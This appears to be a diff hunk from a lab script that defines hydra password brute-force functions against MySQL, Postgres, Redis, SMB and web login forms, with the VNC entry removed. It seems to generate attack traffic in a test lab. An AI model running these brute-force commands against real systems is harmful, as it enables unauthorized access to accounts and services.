@@ -21,7 +21,6 @@ tool hydra_mysql brute-force a1 $FILES; hydra_mysql() { hydra_try 80 4 mysql://$
 tool hydra_postgres brute-force a2 $FILES; hydra_postgres() { hydra_try 80 4 postgres://$FILES/postgres; }
 tool hydra_redis brute-force a1 $FILES; hydra_redis() { (cd "$LAB_DIR" && on 45 hydra -I -t 4 -P "$(words 80)" redis://$FILES); }
 tool hydra_smb brute-force a3 $FILES; hydra_smb() { hydra_try 60 1 smb://$FILES; }
-tool hydra_vnc brute-force a1 $FILES; hydra_vnc() { (cd "$LAB_DIR" && on 45 hydra -I -t 4 -P "$(words 60)" -s 5901 vnc://$FILES); }
 tool hydra_form brute-force a2 $WEB; hydra_form() { hydra_try 120 4 $WEB http-post-form '/signin:user=^USER^&password=^PASS^:Invalid'; }
 tool hydra_tls_form brute-force a1 $WEB; hydra_tls_form() { hydra_try 150 4 $WEB https-post-form '/signin:user=^USER^&password=^PASS^:Invalid'; }
 tool hydra_tls_get brute-force a1 $WEB; hydra_tls_get() { hydra_try 150 4 $WEB https-get /login; }
